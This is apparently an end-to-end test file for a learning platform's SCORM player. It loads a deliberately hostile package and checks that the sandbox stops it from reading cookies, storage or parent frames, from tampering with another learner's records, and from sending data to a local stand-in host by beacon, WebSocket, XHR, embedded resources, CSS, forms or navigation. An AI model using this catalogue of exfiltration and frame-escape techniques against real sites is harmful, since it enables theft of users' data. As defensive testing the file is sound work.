import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openJourney, playerOf, publishPackage } from '#tests/support/journey.ts';
import { signInAs } from '#tests/support/pages.ts';
import { manifest, zip } from '#tests/support/packages.ts';
import { said } from '#tests/support/words.ts';

// Windows that a page opens by itself are not stopped by the browser here: what stops them must be ours.
const { server, browser } = await openJourney(['--disable-popup-blocking']);
let foreign: Server;
/** Everything that reached the foreign host. */
const reached: string[] = [];
beforeAll(async () => {
  foreign = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.setHeader('Access-Control-Allow-Origin', '*').end('<h1>elsewhere</h1>');
  });
  foreign.on('upgrade', (request, socket) => (reached.push(`socket ${request.url}`), socket.destroy()));
  await new Promise<void>((ready) => foreign.listen(0, '127.0.0.1', ready));
});
afterAll(() => {
  foreign.closeAllConnections();
  foreign.close();
});

/** Speaks enough SCORM 1.2 to be taken for a package; the test calls what it tries. */
const HOSTILE = `<!doctype html><title>Hostile</title><p>Hostile</p>
<script>var api = parent.API; api.LMSInitialize(''); api.LMSSetValue('cmi.suspend_data', 'mine'); api.LMSCommit('');</script>`;

async function open(email: string, course: string, button: string): Promise<{ page: Page; package_: Frame }> {
  const page = await signInAs(browser, server.origin, email);
  await page.goto(course);
  await page.getByRole('button', { name: button }).click();
  await playerOf(page).frameLocator('iframe').getByText('Hostile').waitFor();
  return { page, package_: page.frames().find((frame) => frame.url().endsWith('index.html'))! };
}

/** Every way that a page has of sending something to somebody without leaving; runs in the page. */
function sendByEveryWay(elsewhere: string): void {
  const at = (name: string) => `http://${elsewhere}/${name}?data`;
  const quietly = (act: () => unknown) => {
    try {
      act();
    } catch {
      // refused at once: as it should be
    }
  };
  const put = (name: string, values: Record<string, string>, within = document.body) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(values)) element.setAttribute(key, value);
    within.append(element);
    return element;
  };
  quietly(() => navigator.sendBeacon(at('beacon'), 'data'));
  quietly(() => new WebSocket(`ws://${elsewhere}/socket`));
  quietly(() => new EventSource(at('events')));
  quietly(() => new Worker(at('worker')));
  quietly(() => {
    const request = new XMLHttpRequest();
    request.open('GET', at('xhr'), false);
    request.send();
  });
  for (const [name, attribute] of [
    ['img', 'src'],
    ['script', 'src'],
    ['iframe', 'src'],
    ['video', 'src'],
    ['audio', 'src'],
    ['object', 'data'],
    ['embed', 'src'],
  ] as const)
    put(name, { [attribute]: at(name) });
  for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest'])
    put('link', { rel, href: at(`link-${rel}`), as: 'image' }, document.head);
  put('style', {}).textContent =
    `@import "${at('css')}"; body { background: url("${at('css-image')}") } @font-face { font-family: x; src: url("${at('font')}") } p { font-family: x }`;
  put('iframe', { srcdoc: `<img src="${at('srcdoc')}">` });
  put('iframe', { src: `data:text/html,<img src="${at('data-frame')}">` });
  put('iframe', {
    src: URL.createObjectURL(new Blob([`<img src="${at('blob-frame')}">`], { type: 'text/html' })),
  });
}

/** Every way of going elsewhere with it, here or in another window; runs in the page. */
function goByEveryWay(elsewhere: string): void {
  const at = (name: string) => `http://${elsewhere}/${name}?data`;
  const quietly = (act: () => unknown) => {
    try {
      act();
    } catch {
      // refused at once: as it should be
    }
  };
  const form = (target: string) => {
    const element = document.createElement('form');
    Object.assign(element, { action: at(`form${target}`), method: 'post', target });
    document.body.append(element);
    quietly(() => element.submit());
  };
  for (const target of ['', '_top', '_blank', '_parent']) form(target);
  const link = document.createElement('a');
  Object.assign(link, { href: at('ping-target'), ping: at('ping'), target: '_blank' });
  document.body.append(link);
  link.click();
  quietly(() => window.open(at('window')));
  quietly(() => (top!.location.href = at('top')));
}

test('a package that tries everything gets nothing', async () => {
  const archive = await zip([
    { path: 'imsmanifest.xml', content: manifest() },
    { path: 'index.html', content: HOSTILE },
    { path: 'leave.js', content: "location.href = document.currentScript.src.split('?')[1]" },
    { path: 'worker.js', content: 'addEventListener("fetch", () => {})' },
  ]);
  const course = await publishPackage(browser, server, archive, 'Hostile');
  const victim = await open('doctor', course, said('learning:decide.register'));
  const other = victim.package_.url();
  const { page, package_ } = await open('mentor', course, said('learning:decide.register'));
  const { port } = foreign.address() as AddressInfo;
  const away = `127.0.0.1:${port}`;
  const app = server.origin;

  // Cookies, storage, and the windows above.
  const seen = await package_.evaluate(async () => {
    const tried = (act: () => unknown) => {
      try {
        return String(act());
      } catch (error) {
        return (error as Error).name;
      }
    };
    return {
      cookie: document.cookie,
      storage: Object.keys(localStorage).filter((name) => !name.startsWith('majakka ')),
      databases: (await indexedDB.databases()).map(({ name }) => name),
      appDocument: tried(() => parent.parent.document.title),
      appStorage: tried(() => parent.parent.localStorage.length),
      appFetch: tried(() => (parent.parent as unknown as { fetch: unknown }).fetch),
      opener: tried(() => window.opener),
      learner: (window as unknown as { api: { LMSGetValue(name: string): string } }).api.LMSGetValue(
        'cmi.core.student_name',
      ),
    };
  });
  expect(seen).toEqual({
    cookie: '',
    storage: [],
    databases: ['majakka'], // its own, with nothing of anybody else
    appDocument: 'SecurityError',
    appStorage: 'SecurityError',
    appFetch: 'SecurityError',
    opener: 'null',
    learner: '',
  });

  // The app, another person's package and state, another host: none answers.
  const asked = await package_.evaluate(
    async ([appOrigin, elsewhere, victims]) => {
      const answers: Record<string, string> = {};
      const ask = async (name: string, url: string, init?: RequestInit) => {
        answers[name] = await fetch(url, init).then(
          ({ status }) => String(status),
          () => 'refused',
        );
      };
      await ask('app', `${appOrigin}/credit`, { credentials: 'include', mode: 'no-cors' });
      await ask('elsewhere', `http://${elsewhere}/fetch?data`, { mode: 'no-cors' });
      await ask('anothers file', victims);
      await ask('anothers state', victims.replace(/index\.html$/, '__rte/state'));
      const own = location.href.replace(/\/l\/.*$/, '');
      const theirs = new URL(victims).pathname;
      await ask('anothers file here', own + theirs);
      await ask('anothers commit here', own + theirs.replace(/index\.html$/, '__rte/commit'), {
        method: 'POST',
        body: '{"sequence":99,"cmi":{"cmi.core.lesson_status":"failed"}}',
      });
      await ask('a part that is none', './__rte/commit', {
        method: 'POST',
        body: '{"sequence":99,"sco":"other","cmi":{"cmi.core.lesson_status":"passed"}}',
      });
      await ask('an app page here', `${own}/credit`);
      answers['worker'] = await navigator.serviceWorker.register('worker.js').then(
        () => 'registered',
        (error: Error) => error.name,
      );
      return answers;
    },
    [app, away, other] as const,
  );
  expect(asked).toEqual({
    app: 'refused',
    elsewhere: 'refused',
    'anothers file': 'refused',
    'anothers state': 'refused',
    'anothers file here': '404',
    'anothers commit here': '404',
    'a part that is none': '400',
    'an app page here': '404',
    worker: 'TypeError', // the script is answered 403
  });

  // With a click of the learner's, which lets a page do more.
  await package_.evaluate((elsewhere) => {
    document.body.insertAdjacentHTML(
      'afterbegin',
      '<button id="click" style="position:fixed;inset:0;z-index:9">Next</button>',
    );
    document.getElementById('click')!.onclick = () => {
      document.body.dataset['clicked'] = 'yes';
      try {
        window.open(`http://${elsewhere}/clicked?data`);
        top!.location.href = `http://${elsewhere}/clicked-top?data`;
      } catch {
        // as it should be
      }
    };
  }, away);
  await page.mouse.click(640, 400);
  expect(await package_.evaluate(() => document.body.dataset['clicked'])).toBe('yes');
  await package_.evaluate(() => document.getElementById('click')!.remove());

  // Every way that a browser has of sending something to somebody.
  await package_.evaluate(sendByEveryWay, away);
  await page.waitForTimeout(700);
  await package_.evaluate(goByEveryWay, away);
  await page.waitForTimeout(1500);
  expect(page.url().startsWith(app)).toBe(true);
  expect(page.context().pages()).toHaveLength(1);
  expect(reached).toEqual([]);

  // Its own frame, and the player's above it, which it can reach because they share a host: neither leaves.
  for (const which of ['own', 'player'] as const) {
    await page.reload();
    await playerOf(page).frameLocator('iframe').getByText('Hostile').waitFor();
    await page
      .frames()
      .find((frame) => frame.url().endsWith('index.html'))!
      .evaluate(
        ([elsewhere, name]) => {
          // A script of the package, put into the player's page: the two share a host.
          const target = name === 'own' ? document : parent.document;
          const script = target.createElement('script');
          script.src = new URL(`leave.js?http://${elsewhere}/${name}-frame`, location.href).href;
          target.body.append(script);
        },
        [away, which] as const,
      );
    await page.waitForTimeout(700);
  }
  expect(reached).toEqual([]);
  expect(page.url().startsWith(app)).toBe(true);

  // The same page without our policy, so that silence above means something.
  const free = await (await browser.newContext()).newPage();
  await free.goto(`http://${away}/`);
  await free.evaluate(sendByEveryWay, away);
  const ways = () => reached.map((line) => /[/]([a-z_-]+)/.exec(line)?.[1]);
  const arrive = async (expected: string[]) => {
    for (const way of expected) await expect.poll(ways, { timeout: 15_000 }).toContain(way);
  };
  await arrive(['beacon', 'socket', 'xhr', 'img', 'iframe', 'css', 'srcdoc']);
  // Whatever is on its way is given up where a page leaves.
  await free.evaluate(goByEveryWay, away);
  await arrive(['window', 'top']);
  await free.context().close();

  // Its own report is stored, and the victim's is unchanged.
  const theirs = await victim.package_.evaluate(() =>
    (window as unknown as { api: { LMSGetValue(name: string): string } }).api.LMSGetValue(
      'cmi.core.lesson_status',
    ),
  );
  expect(theirs).toBe('not attempted');
  await page.context().close();
  await victim.page.context().close();
});
